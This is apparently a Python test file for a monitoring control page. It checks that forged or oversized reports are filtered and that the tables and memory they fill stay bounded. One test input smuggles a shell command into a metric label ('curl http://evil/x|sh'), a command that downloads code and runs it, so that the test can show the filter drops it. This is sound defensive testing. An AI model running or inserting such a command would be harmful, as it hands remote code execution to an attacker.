"""What of a report the control page takes: `reports` is a topic that others may write to."""

from __future__ import annotations

import math
from typing import TYPE_CHECKING

from schemas.records import Report
from streams.control.figures import FORGOTTEN_AFTER_US, SILENT_AFTER_US, Figures, fold, heard_lately, status
from streams.control.history import MOST_KEYS, History
from streams.control.page.overview import overview
from streams.control.page.report_filter import FEW_FIGURES, MOST_FIGURES, MOST_PROCESSES, make_room, sound

if TYPE_CHECKING:
    from collections.abc import Mapping

SECOND = 1_000_000


def report(instance: str, time_us: int = 0, counters: Mapping[str, float] | None = None) -> Report:
    """Make a report."""
    return Report(instance, "joiner", time_us, counters or {"joined_total{application=a}": 1.0}, {"lag": 0.0})


def filled(count: int, time_us: int) -> dict[str, Figures]:
    """Return a table of so many processes."""
    return {name: fold(None, report(name, time_us)) for name in (f"joiner@{number}" for number in range(count))}


def test_figures_whose_labels_are_no_names_are_dropped() -> None:
    """They would stand in a command that somebody copies; the others of the report stay."""
    evil = "dead_letters_total{cause=x,topic=queries; curl http://evil/x|sh #}"
    good = "dead_letters_total{cause=late,topic=models.svc.queries}"
    found = sound(
        report("joiner@1", counters={evil: 1.0, good: 1.0, "a b": 1.0, "none{reason=}": 1.0, "nan": math.nan})
    )
    assert found is not None
    assert found.counters == {good: 1.0, "none{reason=}": 1.0}


def test_what_the_programs_themselves_write_is_taken() -> None:
    """Unknown applications, versions, policies of modules, workers of several machines."""
    figures = dict.fromkeys(
        (
            "queries_total{application=(unknown)}",
            "deployed{application=a,policy=my_rules:make}",
            "serving{version=1.0-b+2}",
        ),
        1.0,
    )
    found = sound(report("worker.svc@host-1.example", counters=figures))
    assert found is not None
    assert found.counters == figures


def test_a_report_whose_own_name_is_none_is_dropped() -> None:
    """Nobody of ours is called so."""
    assert sound(report("joiner@1\x1b[2J")) is None
    assert sound(report("")) is None


def test_the_table_is_bounded_and_who_reports_stays() -> None:
    """While it is full of processes that report, a new one is not taken; one that is silent makes room."""
    live = filled(MOST_PROCESSES, 0)
    assert not make_room(live, report("new@1", SECOND), SECOND)
    assert make_room(live, report("joiner@7", SECOND), SECOND)
    assert make_room(live, report("new@1"), SILENT_AFTER_US + 1)
    assert len(live) == MOST_PROCESSES - 1


def test_who_has_left_is_forgotten_when_somebody_comes() -> None:
    """The table does not grow with each process that ever was."""
    live = filled(9, 0)
    assert make_room(live, report("new@1"), FORGOTTEN_AFTER_US)
    assert live == {}


def test_figures_are_bounded_over_all_processes() -> None:
    """A few large reports are taken, as many as fit."""
    large = {f"a_total{{application=x{number}}}": 1.0 for number in range(10 * FEW_FIGURES)}
    live: dict[str, Figures] = {}
    for number in range(100):
        if make_room(live, one := report(f"joiner@{number}", counters=large), 0):
            live[one.instance] = fold(None, one)
    assert 10 < len(live) <= MOST_FIGURES // len(large)


def test_what_is_followed_in_a_step_is_bounded() -> None:
    """Forged applications do not fill the memory."""
    history = History()
    for part in range(3):
        names = [f"answers_total{{application=x{part}-{number},status=default}}" for number in range(MOST_KEYS // 2)]
        before = fold(None, report("joiner@1", counters=dict.fromkeys(names, 0.0)))
        after = fold(before, report("joiner@1", 1, dict.fromkeys(names, 1.0)))
        history.add(before, after, SECOND)
    _, risen = history.since(10**9, SECOND)
    assert len(risen) <= MOST_KEYS + 8


def test_what_is_shown_is_bounded() -> None:
    """Of five thousand forged processes as many are shown as fit: all of them were megabytes and a second of CPU."""
    live: dict[str, Figures] = {}
    history = History()
    for number in range(5_000):
        one = report(f"forged@{number}")
        if make_room(live, one, 0):
            live[one.instance] = fold(None, one)
            history.add(None, live[one.instance], 0)
    assert len(live) == MOST_PROCESSES
    shown = {
        **status(live.values(), SECOND),
        "overview": overview(heard_lately(live.values(), SECOND), history, SECOND),
    }
    assert len(str(shown)) < 1_000_000
